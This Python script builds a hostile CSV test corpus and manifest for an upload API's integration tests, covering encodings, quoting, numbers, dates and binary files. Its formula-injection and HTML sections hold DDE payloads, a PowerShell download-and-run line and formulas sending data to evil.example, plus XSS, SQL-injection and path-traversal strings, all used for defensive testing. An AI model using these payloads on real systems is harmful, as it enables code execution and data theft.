#!/usr/bin/env python3
"""Writes the hostile CSV corpus (portal-web/src/test/resources/corpora/csv) and its manifest,
expected.tsv: file, expected status, and for 201 the number of rows stored (then, after " | ",
text the API must read back), for a refusal a phrase its report must hold. Run from this directory;
CsvCorpusIT submits every file to a feed with the columns date (DATE, key), queue (TEXT, key),
offered (INTEGER, required) and service_level (DECIMAL(18,4), optional)."""
import os, random

OUT = os.path.join("..", "resources", "corpora", "csv")
H = "date,queue,offered,service_level"
entries = []


def add(name, content, status, detail):
    if isinstance(content, str):
        content = content.encode("utf-8")
    assert name.endswith(".csv") and all(e[0] != name for e in entries), name
    entries.append((name, content, status, detail))


def ok(name, body, rows, readback=None, header=H, nl="\n"):
    text = header + nl + body if header is not None else body
    add(name, text, 201, f"{rows} rows" + (f" | {readback}" if readback else ""))


def bad(name, content, status, phrase):
    add(name, content, status, phrase)


ROW = "2026-03-01,Billing,120,0.85"
ENC, QUOT, UNK, CELLS = "not valid UTF-8 text", "malformed quoting", "column not defined", "expected 4 cells"

# --- encodings and byte-order marks
ok("utf8-plain.csv", ROW + "\n", 1)
ok("bom-utf8.csv", ROW + "\n", 1, header="\ufeff" + H)
bad("bom-utf8-double.csv", "\ufeff\ufeff" + H + "\n" + ROW + "\n", 422, UNK)
bad("bom-utf8-mid-header.csv", "date,\ufeffqueue,offered,service_level\n" + ROW + "\n", 422, UNK)
ok("bom-utf8-in-cell.csv", "2026-03-01,\ufeffBilling,120,0.85\n", 1)
bad("bom-utf16le.csv", b"\xff\xfe" + (H + "\n" + ROW + "\n").encode("utf-16-le"), 400, ENC)
bad("bom-utf16be.csv", b"\xfe\xff" + (H + "\n" + ROW + "\n").encode("utf-16-be"), 400, ENC)
bad("utf16le-no-bom.csv", (H + "\n" + ROW + "\n").encode("utf-16-le"), 422, UNK)
bad("utf16be-no-bom.csv", (H + "\n" + ROW + "\n").encode("utf-16-be"), 422, UNK)
bad("bom-utf32le.csv", b"\xff\xfe\x00\x00" + (H + "\n").encode("utf-32-le"), 400, ENC)
bad("latin1-accent.csv", (H + "\n2026-03-01,Montr\xe9al,1,\n").encode("latin-1"), 400, ENC)
bad("cp1252-smart-quotes.csv", (H + "\n2026-03-01,\x93Billing\x94,1,\n").encode("latin-1"), 400, ENC)
bad("utf8-invalid-continuation.csv", (H + "\n2026-03-01,Bill").encode() + b"\x80ing,1,\n", 400, ENC)
bad("utf8-truncated-sequence.csv", (H + "\n2026-03-01,Bill").encode() + b"\xe2\x82,1,\n", 400, ENC)
bad("utf8-truncated-at-end.csv", (H + "\n2026-03-01,Billing,1,\n").encode() + b"\xf0\x9f", 400, ENC)
bad("utf8-overlong-slash.csv", (H + "\n2026-03-01,a").encode() + b"\xc0\xaf" + b",1,\n", 400, ENC)
bad("utf8-overlong-nul.csv", (H + "\n2026-03-01,a").encode() + b"\xc0\x80" + b",1,\n", 400, ENC)
bad("utf8-overlong-3byte.csv", (H + "\n2026-03-01,a").encode() + b"\xe0\x80\xaf" + b",1,\n", 400, ENC)
bad("utf8-surrogate-encoded.csv", (H + "\n2026-03-01,a").encode() + b"\xed\xa0\x80" + b",1,\n", 400, ENC)
bad("utf8-above-max-codepoint.csv", (H + "\n2026-03-01,a").encode() + b"\xf4\x90\x80\x80" + b",1,\n", 400, ENC)
bad("utf8-ff-byte.csv", (H + "\n2026-03-01,a").encode() + b"\xff" + b",1,\n", 400, ENC)
bad("utf8-bad-in-header.csv", b"date,qu\xe9ue,offered,service_level\n" + ROW.encode() + b"\n", 400, ENC)
ok("utf8-emoji.csv", "2026-03-01,Billing \U0001F600,1,\n", 1, "\U0001F600")
ok("utf8-rtl-override.csv", "2026-03-01,\u202egnilliB,1,\n", 1)
ok("utf8-zero-width.csv", "2026-03-01,Bil\u200bling,1,\n", 1)
ok("utf8-combining.csv", "2026-03-01,Montre\u0301al,1,\n2026-03-01,Montr\u00e9al,2,\n", 2)
ok("utf8-arabic-french.csv", "2026-03-01,\u0627\u0644\u0641\u0648\u062a\u0631\u0629,1,\n2026-03-01,Facturation \u00e9t\u00e9,2,\n", 2)
bad("utf8-nonchar-fffe.csv", H + "\n2026-03-01,a\ufffeb,1,\n", 422, "control character")
ok("utf8-replacement-char.csv", "2026-03-01,a\ufffdb,1,\n", 1)
bad("ebcdic-bytes.csv", H.encode("cp500") + b"\n", 400, ENC)

# --- quoting
ok("quote-all-fields.csv", '"2026-03-01","Billing","120","0.85"\n', 1)
ok("quote-doubled.csv", '2026-03-01,"Bill ""VIP"" line",1,\n', 1, 'Bill \\"VIP\\" line')
ok("quote-comma-inside.csv", '2026-03-01,"Billing, Sales",1,\n', 1, "Billing, Sales")
ok("quote-newline-in-field.csv", '2026-03-01,"Billing\nSales",1,\n', 1, "Billing\\nSales")
ok("quote-crlf-in-field.csv", '2026-03-01,"Billing\r\nSales",1,\n', 1, "Billing\\r\\nSales")
ok("quote-empty-quoted.csv", '2026-03-01,Billing,1,""\n', 1)
ok("quote-in-unquoted-field.csv", '2026-03-01,Bil"ling,1,\n', 1, 'Bil\\"ling')
ok("quote-only-cell-escaped.csv", '2026-03-01,"""",1,\n', 1)
bad("quote-unclosed.csv", '2026-03-01,"Billing,1,\n2026-03-02,Sales,2,\n', 400, QUOT)
bad("quote-unclosed-at-eof.csv", '2026-03-01,Billing,1,"0.8', 400, QUOT)
bad("quote-stray-after-close.csv", '2026-03-01,"Billing"x,1,\n', 400, QUOT)
ok("quote-space-after-close.csv", '2026-03-01,"Billing" ,1,\n', 1, '"Billing"')
ok("quote-space-before-open.csv", '2026-03-01, "Billing",1,\n', 1)
bad("quote-unclosed-in-header.csv", 'date,"queue,offered,service_level\n' + ROW + "\n", 400, QUOT)
bad("quote-single-quotes-as-quotes.csv", H + "\n2026-03-01,'Billing, Sales',1,\n", 422, CELLS)
bad("quote-backslash-escape.csv", '2026-03-01,"Bill\\"ing",1,\n', 400, QUOT)
ok("quote-many-newlines-in-field.csv", '2026-03-01,"' + "line\n" * 50 + '",1,\n', 1)
ok("quote-header-quoted.csv", ROW + "\n", 1, header='"date","queue","offered","service_level"')

# --- line endings
ok("eol-lf.csv", "2026-03-01,A,1,\n2026-03-01,B,2,\n", 2)
ok("eol-crlf.csv", "2026-03-01,A,1,\r\n2026-03-01,B,2,\r\n", 2, nl="\r\n")
ok("eol-cr.csv", "2026-03-01,A,1,\r2026-03-01,B,2,\r", 2, nl="\r")
ok("eol-mixed.csv", "2026-03-01,A,1,\r\n2026-03-01,B,2,\r2026-03-01,C,3,\n", 3)
ok("eol-none-at-end.csv", "2026-03-01,A,1,\n2026-03-01,B,2,", 2)
ok("eol-cr-none-at-end.csv", "2026-03-01,A,1,\r2026-03-01,B,2,", 2, nl="\r")
ok("eol-blank-lines-between.csv", "\n\n2026-03-01,A,1,\n\n\n2026-03-01,B,2,\n\n", 2)
ok("eol-trailing-blank-lines.csv", "2026-03-01,A,1,\n\n\n\n", 1)
ok("eol-leading-blank-lines.csv", ROW + "\n", 1, header="\n\n" + H)
bad("eol-nel-separator.csv", H + "\u0085" + ROW + "\u0085", 422, UNK)
bad("eol-line-separator.csv", H + "\u2028" + ROW + "\u2028", 422, UNK)
bad("eol-form-feed.csv", H + "\n2026-03-01,A\x0c,1,\n", 422, "control character")
bad("eol-whitespace-only-line.csv", H + "\n2026-03-01,A,1,\n   \n2026-03-01,B,2,\n", 422, CELLS)

# --- column counts and headers
bad("cols-too-few.csv", H + "\n2026-03-01,Billing,120\n", 422, CELLS)
bad("cols-too-many.csv", H + "\n2026-03-01,Billing,120,0.85,extra\n", 422, CELLS)
bad("cols-one-row-short.csv", H + "\n" + ROW + "\n2026-03-02,Sales\n", 422, CELLS)
bad("cols-single-column.csv", H + "\n2026-03-01\n", 422, CELLS)
ok("cols-trailing-empty-cell.csv", "2026-03-01,Billing,120,\n", 1)
bad("cols-trailing-comma.csv", H + "\n" + ROW + ",\n", 422, CELLS)
bad("header-only.csv", H + "\n", 422, "no rows")
bad("header-only-no-eol.csv", H, 422, "no rows")
bad("empty.csv", b"", 422, "no rows")
bad("only-bom.csv", "\ufeff", 422, "no rows")
bad("only-newlines.csv", "\n\n\r\n", 422, "no rows")
bad("no-header.csv", ROW + "\n2026-03-02,Sales,80,0.9\n", 422, UNK)
bad("header-duplicate-name.csv", "date,queue,offered,offered\n2026-03-01,A,1,2\n", 422, "named twice")
bad("header-unknown-name.csv", "date,queue,offered,colour\n2026-03-01,A,1,blue\n", 422, UNK)
bad("header-missing-required.csv", "date,queue,service_level\n2026-03-01,A,0.5\n", 422, "missing from the header")
bad("header-optional-missing.csv", "date,queue,offered\n2026-03-01,A,1\n", 422, "missing from the header")
ok("header-reordered.csv", "Billing,0.5,2026-03-01,7\n", 1, header="queue,service_level,date,offered")
ok("header-padded-names.csv", ROW + "\n", 1, header=" date , queue ,offered,service_level ")
bad("header-wrong-case.csv", "DATE,Queue,offered,service_level\n" + ROW + "\n", 422, UNK)
bad("header-empty-name.csv", "date,queue,offered,service_level,\n" + ROW + ",\n", 422, UNK)
bad("header-html-name.csv", "date,<script>alert(1)</script>,offered,service_level\n" + ROW + "\n", 422, UNK)
bad("header-formula-name.csv", "date,=cmd|' /C calc'!A0,offered,service_level\n" + ROW + "\n", 422, UNK)
bad("header-nul-name.csv", "date,que\x00ue,offered,service_level\n" + ROW + "\n", 422, UNK)
bad("header-long-name.csv", "date,queue,offered,service_level," + "x" * 5000 + "\n" + ROW + ",1\n", 422, UNK)
bad("key-duplicate.csv", H + "\n" + ROW + "\n" + ROW + "\n", 422, "same key")
bad("required-missing.csv", H + "\n2026-03-01,,120,0.85\n", 422, "a value is required")
bad("required-offered-missing.csv", H + "\n2026-03-01,Billing,,0.85\n", 422, "a value is required")

# --- formula injection (stored as text, neutralised in exports)
FORMULAS = {
    "formula-equals-sum.csv": "=SUM(1+1)",
    "formula-equals-cmd.csv": "=cmd|' /C calc'!A0",
    "formula-dde-msexcel.csv": "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "formula-plus.csv": "+1+cmd|' /C calc'!A0",
    "formula-minus.csv": "-2+3+cmd|' /C calc'!A0",
    "formula-at-sum.csv": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-hyperlink.csv": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "formula-importxml.csv": '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "formula-webservice.csv": '=WEBSERVICE("http://evil.example/"&A1)',
    "formula-tab-prefixed.csv": "\t=1+1",
    "formula-cr-prefixed.csv": "\r=1+1",
    "formula-equals-only.csv": "=",
    "formula-dde-powershell.csv": "=cmd|'/c powershell IEX(wget evil.example/x)'!A0",
    "formula-at-dde.csv": "@cmd|' /C calc'!A0",
    "formula-plus-hyperlink.csv": '+HYPERLINK("http://evil.example","x")',
}
for name, cell in FORMULAS.items():
    q = '"' + cell.replace('"', '""') + '"'
    ok(name, "2026-03-01," + q + ",1,\n", 1)
ok("formula-many-rows.csv", "".join(f"2026-03-0{i},{c},1,\n" for i, c in enumerate(["=1+1", "+1", "-1", "@A1", "=A1*2"], 1)), 5)
ok("formula-fullwidth-equals.csv", "2026-03-01,\uff1d1+1,1,\n", 1)
ok("formula-leading-space.csv", '2026-03-01," =1+1",1,\n', 1)
bad("formula-in-date.csv", H + "\n=TODAY(),Billing,1,\n", 422, "not a date")
bad("formula-in-integer.csv", H + "\n2026-03-01,Billing,=1+1,\n", 422, "not a whole number")
bad("formula-in-decimal.csv", H + "\n2026-03-01,Billing,1,=0.5*2\n", 422, "not a decimal")
ok("formula-plus-number-canonical.csv", "2026-03-01,Billing,+5,+0.5\n", 1, '"5","0.5000"')
ok("formula-minus-number.csv", "2026-03-01,Billing,-5,-0.5\n", 1, '"-5","-0.5000"')

# --- numbers
ok("num-negative-zero.csv", "2026-03-01,Billing,-0,-0.0\n", 1, '"0","0.0000"')
ok("num-leading-zeros.csv", "2026-03-01,Billing,000120,000.8500\n", 1, '"120","0.8500"')
ok("num-padded.csv", "2026-03-01,Billing, 120 , 0.85 \n", 1, '"120","0.8500"')
ok("num-long-max.csv", "2026-03-01,Billing,9223372036854775807,\n", 1, "9223372036854775807")
ok("num-long-min.csv", "2026-03-01,Billing,-9223372036854775808,\n", 1, "-9223372036854775808")
bad("num-long-overflow.csv", H + "\n2026-03-01,Billing,9223372036854775808,\n", 422, "not a whole number")
bad("num-400-digit-integer.csv", H + "\n2026-03-01,Billing," + "9" * 400 + ",\n", 422, "not a whole number")
bad("num-400-digit-decimal.csv", H + "\n2026-03-01,Billing,1," + "9" * 400 + "\n", 422, "digits in all")
bad("num-400-decimals.csv", H + "\n2026-03-01,Billing,1,0." + "1" * 400 + "\n", 422, "digits after the decimal point")
bad("num-huge-exponent.csv", H + "\n2026-03-01,Billing,1,1e999999999\n", 422, "digits in all")
bad("num-huge-negative-exponent.csv", H + "\n2026-03-01,Billing,1,1e-999999999\n", 422, "digits after the decimal point")
bad("num-exponent-overflow.csv", H + "\n2026-03-01,Billing,1,1e99999999999\n", 422, "not a decimal")
ok("num-small-exponent.csv", "2026-03-01,Billing,1,1E+2\n", 1, "100.0000")
bad("num-exponent-in-integer.csv", H + "\n2026-03-01,Billing,1e3,\n", 422, "not a whole number")
bad("num-nan.csv", H + "\n2026-03-01,Billing,1,NaN\n", 422, "not a decimal")
bad("num-infinity.csv", H + "\n2026-03-01,Billing,1,Infinity\n", 422, "not a decimal")
bad("num-negative-infinity.csv", H + "\n2026-03-01,Billing,-Infinity,\n", 422, "not a whole number")
bad("num-hex.csv", H + "\n2026-03-01,Billing,0x1F,\n", 422, "not a whole number")
bad("num-hex-float.csv", H + "\n2026-03-01,Billing,1,0x1.8p1\n", 422, "not a decimal")
bad("num-octal-like.csv", H + "\n2026-03-01,Billing,1,0o17\n", 422, "not a decimal")
bad("num-thousands-comma-quoted.csv", H + '\n2026-03-01,Billing,"1,000",\n', 422, "not a whole number")
bad("num-thousands-space.csv", H + "\n2026-03-01,Billing,1 000,\n", 422, "not a whole number")
bad("num-thousands-nbsp.csv", H + "\n2026-03-01,Billing,1\u00a0000,\n", 422, "not a whole number")
bad("num-decimal-comma.csv", H + '\n2026-03-01,Billing,1,"0,85"\n', 422, "not a decimal")
bad("num-thousands-comma-unquoted.csv", H + "\n2026-03-01,Billing,1,000,\n", 422, CELLS)
bad("num-currency.csv", H + "\n2026-03-01,Billing,1,$0.85\n", 422, "not a decimal")
bad("num-percent.csv", H + "\n2026-03-01,Billing,1,85%\n", 422, "not a decimal")
bad("num-double-sign.csv", H + "\n2026-03-01,Billing,--1,\n", 422, "not a whole number")
bad("num-scale-too-fine.csv", H + "\n2026-03-01,Billing,1,0.12345\n", 422, "digits after the decimal point")
ok("num-arabic-indic-digits.csv", "2026-03-01,Billing,\u0661\u0662\u0660,\n", 1, '"120"')
ok("num-fullwidth-digits.csv", "2026-03-01,Billing,\uff11\uff12\uff10,\n", 1, '"120"')
bad("num-empty-exponent.csv", H + "\n2026-03-01,Billing,1,1e\n", 422, "not a decimal")
bad("num-dot-only.csv", H + "\n2026-03-01,Billing,1,.\n", 422, "not a decimal")

# --- dates
bad("date-zero.csv", H + "\n0000-00-00,Billing,1,\n", 422, "not a date")
bad("date-feb-30.csv", H + "\n2026-02-30,Billing,1,\n", 422, "not a date")
bad("date-month-13.csv", H + "\n2026-13-01,Billing,1,\n", 422, "not a date")
bad("date-us-format.csv", H + "\n03/01/2026,Billing,1,\n", 422, "not a date")
bad("date-with-time.csv", H + "\n2026-03-01T10:00:00,Billing,1,\n", 422, "not a date")
bad("date-unpadded.csv", H + "\n2026-3-1,Billing,1,\n", 422, "not a date")
bad("date-excel-serial.csv", H + "\n46082,Billing,1,\n", 422, "not a date")
bad("date-two-digit-year.csv", H + "\n26-03-01,Billing,1,\n", 422, "not a date")
bad("date-year-five-digits-unsigned.csv", H + "\n10000-01-01,Billing,1,\n", 422, "not a date")
bad("date-arabic-digits.csv", H + "\n\u0662\u0660\u0662\u0666-03-01,Billing,1,\n", 422, "not a date")
ok("date-far-future.csv", "9999-12-31,Billing,1,\n", 1, "9999-12-31")
ok("date-year-one.csv", "0001-01-01,Billing,1,\n", 1, "0001-01-01")
ok("date-leap-day.csv", "2028-02-29,Billing,1,\n", 1)
ok("date-signed-huge-year.csv", "+999999999-12-31,Billing,1,\n", 1, "+999999999-12-31")
ok("date-negative-year.csv", "-0044-03-15,Billing,1,\n", 1, "-0044-03-15")
bad("date-beyond-max-year.csv", H + "\n+1000000000-01-01,Billing,1,\n", 422, "not a date")

# --- control characters
bad("ctrl-nul-in-text.csv", H + "\n2026-03-01,Bill\x00ing,1,\n", 422, "control character")
bad("ctrl-nul-row.csv", H + "\n\x00\x00\x00\n", 422, CELLS)
bad("ctrl-escape-sequence.csv", H + "\n2026-03-01,\x1b[31mRed\x1b[0m,1,\n", 422, "control character")
bad("ctrl-bell.csv", H + "\n2026-03-01,Bill\x07,1,\n", 422, "control character")
bad("ctrl-backspace.csv", H + "\n2026-03-01,Bill\x08\x08,1,\n", 422, "control character")
bad("ctrl-delete.csv", H + "\n2026-03-01,Bill\x7f,1,\n", 422, "control character")
bad("ctrl-c1-csi.csv", H + "\n2026-03-01,Bill\u009b31m,1,\n", 422, "control character")
bad("ctrl-unit-separator.csv", H + "\n2026-03-01,Bill\x1fing,1,\n", 422, "control character")
bad("ctrl-nul-in-date.csv", H + "\n2026-03-01\x00,Billing,1,\n", 422, "not a date")
ok("ctrl-tab-in-text.csv", "2026-03-01,Bill\ting,1,\n", 1, "Bill\\ting")
ok("ctrl-backslash-u-text.csv", "2026-03-01,Bill\\u001fing\\\\,1,\n", 1, "Bill\\\\u001fing")

# --- binary named .csv
random.seed(11)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
bad("binary-png.csv", PNG + bytes(random.randrange(256) for _ in range(512)), 400, ENC)
bad("binary-zip.csv", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(random.randrange(256) for _ in range(512)), 400, ENC)
# its first line is valid UTF-8: read as a header of unknown columns, and reading stops there
bad("binary-pdf.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", 422, UNK)
bad("binary-gzip.csv", b"\x1f\x8b\x08\x00" + bytes(random.randrange(256) for _ in range(512)), 400, ENC)
bad("binary-random-1k.csv", bytes(random.randrange(256) for _ in range(1024)), 400, ENC)
bad("binary-elf.csv", b"\x7fELF\x02\x01\x01\x00" + bytes(random.randrange(256) for _ in range(256)), 400, ENC)
bad("binary-exe.csv", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", 400, ENC)
bad("binary-xlsx-named-csv.csv", b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xb1\xa3[Content_Types].xml\xad\x92", 400, ENC)
bad("binary-all-nul.csv", b"\x00" * 1024, 422, UNK)
bad("binary-sqlite.csv", b"SQLite format 3\x00\x10\x00\x01\x01\x00@  \x00\x00\x00\x02\xff", 400, ENC)

# --- delimiters
bad("delim-semicolon.csv", "date;queue;offered;service_level\n2026-03-01;Billing;120;0.85\n", 422, UNK)
bad("delim-tab.csv", "date\tqueue\toffered\tservice_level\n2026-03-01\tBilling\t120\t0.85\n", 422, UNK)
bad("delim-pipe.csv", "date|queue|offered|service_level\n2026-03-01|Billing|120|0.85\n", 422, UNK)
bad("delim-semicolon-rows.csv", H + "\n2026-03-01;Billing;120;0.85\n", 422, CELLS)
bad("delim-sep-directive.csv", "sep=;\n" + H + "\n" + ROW + "\n", 422, UNK)
ok("delim-semicolon-in-text.csv", "2026-03-01,Bill;ing,1,\n", 1)

# --- HTML and script in cells (stored as text; the XSS corpus checks the pages)
ok("html-script-cell.csv", "2026-03-01,<script>alert(1)</script>,1,\n", 1)
ok("html-img-onerror.csv", '2026-03-01,"<img src=x onerror=alert(1)>",1,\n', 1)
ok("html-el-expression.csv", "2026-03-01,#{13*37001},1,\n2026-03-01,${13*37001},2,\n", 2, "#{13*37001}")
ok("html-svg-onload.csv", '2026-03-01,"<svg/onload=alert(1)>",1,\n', 1)
ok("html-javascript-url.csv", "2026-03-01,javascript:alert(1),1,\n", 1)
ok("html-entities.csv", "2026-03-01,&lt;b&gt;&amp;&#x27;,1,\n", 1)
ok("sql-injection-cell.csv", "2026-03-01,'; DROP TABLE feed_row; --,1,\n", 1)
ok("path-traversal-cell.csv", "2026-03-01,../../etc/passwd,1,\n", 1)

# --- sizes (the large ones are made by CsvCorpusIT)
# queue is a key column: date, U+001F and queue together hold at most 500 characters
ok("size-key-at-limit.csv", "2026-03-01," + "x" * 489 + ",1,\n", 1)
bad("size-key-over-limit.csv", H + "\n2026-03-01," + "x" * 490 + ",1,\n", 422, "key longer than 500 characters")
ok("size-key-multibyte-at-limit.csv", "2026-03-01," + "\u00e9" * 489 + ",1,\n", 1)
ok("size-key-astral.csv", "2026-03-01," + "\U0001F600" * 244 + ",1,\n", 1)
bad("size-key-text-4000.csv", H + "\n2026-03-01," + "x" * 4000 + ",1,\n", 422, "key longer than 500 characters")
bad("size-text-4001.csv", H + "\n2026-03-01," + "x" * 4001 + ",1,\n", 422, "longer than 4000 characters")
ok("size-200-rows.csv", "".join(f"2026-03-01,Q{i},{i},\n" for i in range(200)), 200)
bad("size-many-bad-rows.csv", H + "\n" + "".join(f"2026-13-01,Q{i},{i},\n" for i in range(1500)), 422, "not a date")

# --- also: the key columns' limits
ok("key-unicode-lookalikes.csv", "2026-03-01,Billing,1,\n2026-03-01,\u0392illing,2,\n", 2)
ok("key-case-differs.csv", "2026-03-01,billing,1,\n2026-03-01,Billing,2,\n", 2)
# a key is compared without the spaces around it (MySQL's PAD SPACE ignores trailing ones)
bad("key-trailing-space.csv", H + "\n2026-03-01,Billing,1,\n2026-03-01,Billing ,2,\n", 422, "same key")

os.makedirs(OUT, exist_ok=True)
for f in os.listdir(OUT):
    if f.endswith(".csv"):
        os.remove(os.path.join(OUT, f))
with open(os.path.join(OUT, "expected.tsv"), "w", encoding="utf-8", newline="\n") as manifest:
    manifest.write("# file\tstatus\t201: rows stored [| text the API reads back]; else: a phrase of the report\n")
    for name, content, status, detail in entries:
        with open(os.path.join(OUT, name), "wb") as out:
            out.write(content)
        manifest.write(f"{name}\t{status}\t{detail}\n")
print(len(entries), "files;", sum(1 for e in entries if e[2] == 201), "accepted")
